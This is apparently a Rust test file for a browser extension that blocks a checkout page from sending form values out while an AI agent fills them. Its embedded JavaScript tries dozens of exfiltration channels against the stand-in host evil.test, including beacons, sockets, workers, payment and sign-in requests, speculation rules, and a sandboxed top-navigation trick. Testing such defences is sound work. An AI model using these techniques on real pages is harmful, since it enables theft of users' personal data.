//! The egress of a page with filled values.

use std::time::Duration;

use crate::stage::{FORM, REQUEST, Stage, until_unchanged, wait_for_absence, wait_until};

/// A script that sends typed text to the attacker over every channel, and marks the page when it has tried them all.
const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe>
  <iframe id="drawn" src="/drawn.svg"></iframe><iframe id="late"></iframe><a id="a"></a><script>
  const to = 'https://evil.test:PORT/';
  const worker = navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready);
  const ways = {
    fetch: (d) => fetch(to + 'fetch?' + d, { mode: 'no-cors' }),
    beacon: (d) => navigator.sendBeacon(to + 'beacon', d),
    image: (d) => { new Image().src = to + 'image?' + d; },
    style: (d) => document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href="${to}style?${d}">`),
    script: (d) => { document.head.append(Object.assign(document.createElement('script'), { src: to + 'script?' + d })); },
    frame: (d) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${to}frame?${d}"></iframe>`),
    socket: (d) => new WebSocket(`${to.replace('https', 'wss')}socket?${d}`),
    worker: (d) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}worker?${d}', { mode: 'no-cors' })`]))),
    other: (d) => document.getElementById('inner').contentWindow.postMessage(to + 'other?' + d, '*'),
    late: (d) => [300, 1000, 2000].forEach((wait) => setTimeout(() => document.getElementById('late').contentWindow.postMessage(d, '*'), wait)),
    sandbox: (d) => document.body.insertAdjacentHTML('beforeend',
      `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${to}sandbox?${d}', { mode: 'no-cors' })<\/script>"></iframe>`),
    blank: (d) => { const el = document.body.appendChild(document.createElement('iframe'));
      el.contentWindow.fetch(to + 'blank?' + d, { mode: 'no-cors' }); },
    // Fetches of the browser itself: payment manifests, sign-in configurations, speculative navigations.
    payment: (d) => new PaymentRequest([{ supportedMethods: to + 'payment/' + d }],
      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    // The same for a document that is not HTML.
    drawn: (d) => new (document.getElementById('drawn').contentWindow.PaymentRequest)([{ supportedMethods: to + 'drawn/' + d }],
      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    signin: (d) => navigator.credentials.get({ identity: { providers: [{ configURL: to + 'signin/' + d, clientId: 'x', nonce: 'x' }] } }),
    ahead: (d) => document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
      textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to + 'ahead?' + d], eagerness: 'immediate' }] }) })),
    ping: (d) => { const a = document.getElementById('a'); a.href = '#x'; a.ping = to + 'ping?' + d; a.click(); },
    events: (d) => new EventSource(to + 'events?' + d),
    later: (d) => fetchLater(to + 'later?' + d, { activateAfter: 0 }),
    manifest: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: to + 'manifest?' + d })),
    prefetch: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to + 'prefetch?' + d })),
    media: (d) => document.body.insertAdjacentHTML('beforeend', `<video src="${to}media?${d}"></video>`),
    object: (d) => document.body.insertAdjacentHTML('beforeend', `<object data="${to}object?${d}"></object>`),
    font: (d) => document.head.insertAdjacentHTML('beforeend', `<style>@import '${to}import?${d}';
      @font-face { font-family: z; src: url('${to}font?${d}') } body { font-family: z }</style>`),
    shared: (d) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}shared?${d}', { mode: 'no-cors' })`]))),
    opaque: (d) => new Worker('data:text/javascript,' + encodeURIComponent(`fetch('${to}opaque?${d}', { mode: 'no-cors' })`)),
    poster: (d) => document.body.insertAdjacentHTML('beforeend', `<video poster="${to}poster?${d}"></video>`),
    preload: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: to + 'preload?' + d })),
    icon: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: to + 'icon?' + d })),
    modules: (d) => import(to + 'modules?' + d),
    following: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: to + 'following?' + d })),
    track: (d) => document.body.insertAdjacentHTML('beforeend', `<video crossorigin><track default src="${to}track?${d}"></video>`),
    paint: (d) => CSS.paintWorklet.addModule(to + 'paint?' + d),
    background: (d) => worker.then((registration) => registration.backgroundFetch.fetch(`${Math.random()}`, [to + 'background?' + d])),
    service: (d) => worker.then((registration) => registration.active.postMessage(to + 'service?' + d)),
    redirect: (d) => fetch('/redirect?' + d, { mode: 'no-cors' }),
    form: (d) => { const form = document.createElement('form'); Object.assign(form, { action: to + 'form', method: 'post', target: 'f' });
      form.append(Object.assign(document.createElement('input'), { name: 'd', value: d })); document.body.append(form); form.submit(); },
  };
  const send = () => {
    const d = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
    for (const way of Object.values(ways)) { try { Promise.resolve(way(d)).catch(() => {}); } catch {} }
    setTimeout(() => { document.body.dataset.sent = ''; }, 700);
  };
  addEventListener('load', () => setTimeout(() => {
    const late = document.getElementById('late');
    late.onload = () => { late.dataset.loaded = ''; };
    late.src = to + 'slow'; }, 50));
  let timer;
  addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(send, 50); });
  </script><iframe name="f"></iframe>"#;

/// Navigates the tab from a frame with an opaque origin, which needs no user gesture.
const TAKES: &str = "void setTimeout(() => document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script>top.location = '${to}taken?` +
    encodeURIComponent(document.forms[0].elements.street.value) + `'<\\/script>\" sandbox='allow-scripts allow-top-navigation'></iframe>`))";

/// A document of the attacker, which sends the referrer.
const LATE: &str = "<!doctype html><script>
    addEventListener('message', (e) => { new Image().src = '/mine?' + encodeURIComponent(e.data); });</script>";

/// The site's own service worker.
const WORKER: &str =
    "addEventListener('message', (e) => { fetch(e.data, { mode: 'no-cors' }).catch(() => {}); });";

/// A page with an OpenSearch description, which the browser fetches by itself.
const SEARCHED: &str = "<!doctype html><link rel=search type='application/opensearchdescription+xml' title=x
    href='https://evil.test:PORT/described'>";

const FRAME: &str =
    "<!doctype html><script>addEventListener('message', (e) => { new Image().src = e.data; });</script>";

#[test]
fn a_page_with_values_sends_them_nowhere_else_until_the_task_ends() {
    let mut stage = Stage::new(17);
    stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
    stage.site.put("bank.test/frame", FRAME);
    stage.site.put("evil.test/slow", LATE);
    stage.site.put("shop.test/worker.js", WORKER);
    stage.site.put("shop.test/", SEARCHED);
    stage.site.put(
        "shop.test/drawn.svg",
        "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>",
    );
    stage.site.put("bank.test/", "<!doctype html><img src='https://evil.test:PORT/logo'>");
    let redirect = stage.site.url("evil.test/redirected");
    stage.site.redirect("shop.test/redirect", &redirect);
    stage.serve(true);
    stage.browse();
    let (url, searched) = (stage.site.url("shop.test/checkout"), stage.site.url("shop.test/"));
    stage.browser().open(&searched);
    arrive(&stage, "evil.test", &["described"]);
    stage.browser().open(&url);

    // Without a value in it the page may send anything, which shows that the attacker receives requests.
    wait_for(&mut stage, "'loaded' in document.getElementById('late').dataset");
    stage.browser().evaluate("send()");
    wait_for(&mut stage, "'sent' in document.body.dataset");
    arrive(&stage, "evil.test", &WAYS);
    stage.browser().evaluate(TAKES);
    arrive(&stage, "evil.test", &["taken"]);
    stage.browser().arrive("evil.test");
    // From here on the attacker's own document loads while the form is filled.
    stage.site.hold("evil.test/slow");
    stage.browser().open(&url);
    wait_until(|| {
        let sent = stage.site.sent_to("evil.test");
        let is_requested = sent.matches("evil.test /slow").count() >= 2;
        is_requested.then_some(()).ok_or_else(|| format!("the attacker's document was not requested: {sent}"))
    });
    let before = until_quiet(&stage);
    stage.task();
    stage.agent_until(None, "Deliver to");
    let reply = stage.agent(Some(REQUEST));
    assert!(reply.contains("GRANT.address"), "{reply}");
    wait_for(&mut stage, "'sent' in document.body.dataset");
    assert_eq!(stage.browser().values()["street"], stage.value("street"));
    assert_eq!(stage.site.sent_to("evil.test"), before, "the page sent something after the fill");

    stage.site.release("evil.test/slow");
    wait_for(&mut stage, "'loaded' in document.getElementById('late').dataset");
    stage.browser().evaluate("send()");
    wait_for(&mut stage, "'sent' in document.body.dataset");
    assert_eq!(until_quiet(&stage), before, "a document that loaded after the fill sent something");

    // Neither a navigation of the tab nor another tab of the same site sends, with the worker stopped meanwhile or not.
    stage.browser().stop_worker();
    let leave = format!(
        "location.href = '{}?' + encodeURIComponent(document.forms[0].elements.street.value)",
        stage.site.url("evil.test/leave")
    );
    stage.browser().evaluate(&leave);
    wait_for_absence(Duration::from_millis(700));
    stage.browser().tab(&url);
    // The extension restricts a tab and its page a moment after the page has loaded.
    until_restricted(&mut stage);
    stage.browser().evaluate("send()");
    wait_for(&mut stage, "'sent' in document.body.dataset");
    stage.browser().evaluate(TAKES);
    assert_eq!(until_quiet(&stage), before, "a navigation or another tab sent something");

    // Another site in another tab is unaffected, and the shop is restricted when the user returns.
    let bank = stage.site.url("bank.test/");
    stage.browser().tab(&bank);
    // The extension does not restrict another site's page.
    arrive(&stage, "evil.test", &["logo"]);
    let before = until_quiet(&stage);
    stage.browser().open(&url);
    until_restricted(&mut stage);
    stage.browser().evaluate("send()");
    wait_for(&mut stage, "'sent' in document.body.dataset");
    assert_eq!(until_quiet(&stage), before, "the shop's page sent something after it was opened again");
    stage.browser().open(&searched);
    assert_eq!(until_quiet(&stage), before, "the browser fetched the OpenSearch description");
    stage.browser().open(&url);
    stage.no_value_got_out();

    // The shop itself gets the requests to it.
    stage.browser().evaluate("fetch('/mine?' + 42)");
    arrive(&stage, "shop.test", &["mine?42"]);

    stage.end_task();
    // The policy of a document disappears with it, so each try opens the page again.
    until_unrestricted(&mut stage, &url, "void ways.fetch('after').catch(() => {})", &before);
}

#[test]
fn a_restarted_browser_keeps_the_pages_of_the_task_restricted() {
    let mut stage = Stage::new(18);
    stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
    stage.site.put("bank.test/frame", FRAME);
    stage.serve(true);
    stage.browse();
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    stage.task();
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply}");
    wait_for(&mut stage, "'sent' in document.body.dataset");
    stage.browser().at_question("quit", &serde_json::json!({}));
    stage.browser = None;

    // The browser has forgotten its rules, and the form may be restored with its contents.
    stage.browse();
    stage.browser().open(&url);
    until_restricted(&mut stage);
    let before = until_quiet(&stage);
    // For these the active page is enough: its frames get their policies a moment later.
    stage.browser().evaluate(
        "for (const name of ['fetch', 'beacon', 'image', 'style', 'script', 'frame', 'socket', 'worker', 'payment', 'form'])
            try { Promise.resolve(ways[name]('again')).catch(() => 0); } catch {}",
    );
    assert_eq!(until_quiet(&stage), before, "the restarted browser does not restrict the page");

    // A new task starts while the worker is stopped: the first one's pages are unrestricted again.
    stage.browser().stop_worker();
    stage.task();
    until_unrestricted(&mut stage, &url, "void ways.image('after')", &before);
    stage.no_value_got_out();
}

const WAYS: [&str; 38] = [
    "fetch",
    "beacon",
    "image",
    "style",
    "script",
    "frame",
    "socket",
    "worker",
    "other",
    "mine",
    "sandbox",
    "blank",
    "payment",
    "drawn",
    "signin",
    "ahead",
    "ping",
    "events",
    "later",
    "manifest",
    "prefetch",
    "media",
    "object",
    "import",
    "font",
    "shared",
    "opaque",
    "poster",
    "preload",
    "icon",
    "modules",
    "following",
    "track",
    "paint",
    "background",
    "service",
    "redirected",
    "form",
];

/// Waits until this script of the active page returns true.
pub fn wait_for(stage: &mut Stage, condition: &str) {
    wait_until(
        || if stage.browser().evaluate(condition) == true { Ok(()) } else { Err(condition.to_owned()) },
    );
}

/// Opens the page and sends from it until something arrives at the attacker's host.
fn until_unrestricted(stage: &mut Stage, url: &str, send: &str, before: &str) {
    wait_until(|| {
        stage.browser().open(url);
        stage.browser().evaluate(send);
        let has_arrived = stage.site.sent_to("evil.test") != before;
        has_arrived
            .then_some(())
            .ok_or_else(|| "the task has ended and its pages are still restricted".to_owned())
    });
}

/// Waits until a host got a request to each of these paths, given by their beginnings.
pub fn arrive(stage: &Stage, host: &str, all: &[&str]) {
    wait_until(|| {
        let sent = stage.site.sent_to(host);
        let missing = all.iter().find(|one| !sent.contains(&format!("{host} /{one}")));
        missing.map_or(Ok(()), |missing| Err(format!("{missing} did not arrive: {sent}")))
    });
}

/// The requests at the attacker's host, once no more have arrived for two seconds.
pub fn until_quiet(stage: &Stage) -> String {
    until_unchanged(|| stage.site.sent_to("evil.test"))
}

/// Waits until the active page has its content security policy and its tab is in the extension's rule for tabs.
fn until_restricted(stage: &mut Stage) {
    wait_for(
        stage,
        "(() => {
            if (!window.kept) {
                window.kept = [];
                addEventListener('securitypolicyviolation', () => window.kept.push(1));
            }
            fetch(`https://nowhere.test:${location.port}/`).catch(() => 0);
            return window.kept.length > 0;
        })()",
    );
    wait_until(|| {
        let is_restricted = stage.browser().at_question("isTabRestricted", &serde_json::json!({})) == true;
        is_restricted.then_some(()).ok_or_else(|| "the tab is in no rule".to_owned())
    });
}
